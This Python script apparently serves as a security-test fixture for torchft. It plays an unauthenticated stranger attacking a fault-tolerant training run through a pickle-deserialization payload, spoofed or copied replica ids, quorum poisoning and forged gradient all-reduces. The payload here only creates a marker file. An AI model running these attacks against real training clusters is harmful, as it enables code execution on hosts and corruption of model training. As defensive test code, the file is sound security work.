"""A stranger to an ft run (tests/test_ft_security.py): a process with torchft's own defaults that reaches the
run's ports but holds no secret. It plays one attack for at most SECONDS, then exits:

  high      joins the Lighthouse as `llmcluster_group_1` with a far higher step, serving a pickle through torchft's
            default transport (unpickled, it creates MARKER): the run would heal from it
  zero      joins at step 0: the run would heal it (its load_state_dict creates MARKER)
  grads     joins with a forged MAC in its id and all-reduces gradients of 1e6 in every step it is admitted to
  poison    calls a group's ManagerServer (ADDR) `quorum` as its rank 0 with a huge step and its own checkpoint
            address (the pickle server): the other group would heal from that address
  copy      joins under ADDR, a full replica id copied from the Lighthouse's `/status` (a dead group's: its MAC is
            valid), takes each quorum's step as its own (no heal needed) and all-reduces N (the run's gradient
            all-reduce size) values of 1000 in every quorum it is admitted to (issue 63)

    python ft_stranger.py MODE LIGHTHOUSE_URL MARKER SECONDS [ADDR [N]]
"""

from __future__ import annotations

import builtins
import sys
import time
from datetime import timedelta

import torch
from torch.distributed import TCPStore
from torchft import Manager, ProcessGroupGloo
from torchft._torchft import ManagerClient
from torchft.checkpointing import HTTPTransport


class Payload:
    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):   # what runs in whoever unpickles it
        return builtins.open, (self.marker, "w")


def main(mode: str, lighthouse: str, marker: str, seconds: float, addr: str = "", n: str = "0") -> None:
    deadline = time.monotonic() + seconds
    if mode == "copy":
        return copy(lighthouse, addr, int(n), deadline)
    if mode == "poison":
        server = HTTPTransport(timeout=timedelta(seconds=10), num_chunks=0)
        server.send_checkpoint([1], 10**6, {"user": {"default": Payload(marker)}, "torchft": {}},
                               timedelta(seconds=10))
        client = ManagerClient(addr, connect_timeout=timedelta(seconds=5))
        while time.monotonic() < deadline:
            try:
                client._quorum(group_rank=0, step=10**6, checkpoint_metadata=server.metadata(), shrink_only=False,
                               timeout=timedelta(seconds=3), commit_failures=0, init_sync=False)
            except Exception as e:   # noqa: BLE001 - a stranger keeps trying
                print("poison:", type(e).__name__, str(e)[:120], flush=True)
            time.sleep(0.5)
        return

    def load(_state):
        open(marker, "w").close()

    store = TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)
    replica_id = "llmcluster_group_1" if mode != "grads" else "llmcluster_group_1:0-0~" + "ab" * 16 + "x"
    m = Manager(pg=ProcessGroupGloo(timeout=timedelta(seconds=5)), load_state_dict=load,
                state_dict=lambda: {"payload": Payload(marker)}, min_replica_size=1, use_async_quorum=False,
                timeout=timedelta(seconds=5), quorum_timeout=timedelta(seconds=5), connect_timeout=timedelta(seconds=5),
                store_addr="127.0.0.1", store_port=store.port, rank=0, world_size=1, lighthouse_addr=lighthouse,
                replica_id=replica_id, init_sync=False)
    if mode == "high":
        m.load_state_dict({"step": 10**6, "batches_committed": 0})
    while time.monotonic() < deadline:
        try:
            m.start_quorum()
            if mode == "grads":
                m.allreduce(torch.full((1000,), 1e6)).wait()
            print(f"{mode}: admitted to a quorum, commit {m.should_commit()}", flush=True)
        except Exception as e:   # noqa: BLE001 - a stranger keeps trying
            print(f"{mode}:", type(e).__name__, str(e)[:120], flush=True)
            m._quorum_future = None
            time.sleep(0.5)
    m.shutdown(wait=False)


def copy(lighthouse: str, replica_id: str, n: int, deadline: float) -> None:
    import torchft.manager
    from torchft._torchft import ManagerServer

    def copied(**kw):   # torchft appends a uuid of its own to the id it is given: register the copied id as it is
        kw["replica_id"] = replica_id
        return ManagerServer(**kw)

    torchft.manager.ManagerServer = copied
    store = TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)
    m = Manager(pg=ProcessGroupGloo(timeout=timedelta(seconds=10)), load_state_dict=lambda _s: None,
                state_dict=lambda: {}, min_replica_size=1, use_async_quorum=False, timeout=timedelta(seconds=10),
                quorum_timeout=timedelta(seconds=5), connect_timeout=timedelta(seconds=5), store_addr="127.0.0.1",
                store_port=store.port, rank=0, world_size=1, lighthouse_addr=lighthouse, replica_id="x",
                init_sync=False)
    inner, seen = m._client, {}

    class Tap:   # the quorum's step, taken as its own: the next quorum admits it without a heal
        def _quorum(self, *a, **kw):
            seen["q"] = q = inner._quorum(*a, **kw)
            return q

        def __getattr__(self, name):
            return getattr(inner, name)

    m._client = Tap()
    while time.monotonic() < deadline:
        try:
            m.start_quorum()
            m.allreduce(torch.full((n,), 1000.0)).wait()
            err = m.errored()
            print(f"copy: quorum {seen['q'].quorum_id} at step {seen['q'].max_step}, commit {m.should_commit()}"
                  f"{f' ({type(err.original_exception).__name__}: {str(err.original_exception)[:200]})' if err else ''}",
                  flush=True)
        except Exception as e:   # noqa: BLE001 - a stranger keeps trying
            print("copy:", type(e).__name__, str(e)[:120], flush=True)
            m._quorum_future = None
            time.sleep(0.5)
        if "q" in seen:
            m._step = seen["q"].max_step
    m.shutdown(wait=False)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]), *sys.argv[5:])
